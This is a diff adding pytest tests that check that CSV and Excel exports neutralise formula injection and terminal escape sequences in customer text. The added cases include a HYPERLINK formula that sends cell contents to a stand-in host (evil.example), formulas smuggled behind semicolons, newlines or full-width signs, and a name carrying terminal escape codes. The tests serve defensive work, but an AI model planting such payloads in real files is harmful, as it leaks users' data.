@@ -1,6 +1,7 @@
 """What stands in the files: the values as they are, and nothing that a spreadsheet would carry out."""
 
 import csv
+import re
 from datetime import UTC, datetime
 from pathlib import Path
 from zoneinfo import ZoneInfo
@@ -52,6 +53,41 @@ def test_a_customers_words_are_never_a_formula(text: str, tmp_path: Path) -> Non
     write_file(tmp_path / "out.xlsx", sheet([(text,)]), HELSINKI)
     written = CalamineWorkbook.from_path(str(tmp_path / "out.xlsx")).get_sheet_by_index(0).to_python()
     assert written[1][0] == text
+
+
+BEGINS_A_CELL = [
+    'good;=HYPERLINK("https://evil.example?"&A1)',
+    'good; "=1+1',
+    "good\t@SUM(A1)",
+    "good\n-1+1",
+    "good\r\n+1+1",
+    "\uff1d1+1",
+    "good;\uff0b1",
+    " =1+1",
+]
+
+
+@pytest.mark.parametrize("text", [*NASTY, *BEGINS_A_CELL])
+def test_a_customers_words_are_no_formula_where_spreadsheets_separate_by_something_else(
+    text: str, tmp_path: Path
+) -> None:
+    # Excel separates by ";" where numbers have a decimal comma, and quotes within a cell mean nothing to it.
+    write_file(tmp_path / "out.csv", sheet([("a", text, "b")]), HELSINKI)
+    lines = (tmp_path / "out.csv").read_text(encoding="utf-8-sig").removeprefix("c0,c1,c2")
+    for cell in re.split("[;,\t\r\n]", lines):
+        assert re.match(r'[\s"]*[-=+@\uff1d\uff0b\uff0d\uff20]', cell) is None, cell
+
+
+@pytest.mark.parametrize("text", ["Good; thanks", "1=1; a+b", "one\ntwo", "it's 5-6; or 7", "me@acme.example"])
+def test_a_customers_words_stand_as_they_are_where_they_begin_no_formula(text: str, tmp_path: Path) -> None:
+    write_file(tmp_path / "out.csv", sheet([(text,)]), HELSINKI)
+    assert read_csv(tmp_path / "out.csv")[1] == [text]
+
+
+def test_a_csv_file_commands_no_terminal_and_turns_no_direction(tmp_path: Path) -> None:
+    name = "\x1b]0;Owned\x07Maria\x9b2J \u202eevil\x00"
+    write_file(tmp_path / "out.csv", sheet([(name,)]), HELSINKI)
+    assert read_csv(tmp_path / "out.csv")[1] == [r"\u001b]0;Owned\u0007Maria\u009b2J \u202eevil\u0000"]
 
 
 def test_a_workbook_has_a_sheet_for_each_table(tmp_path: Path) -> None:
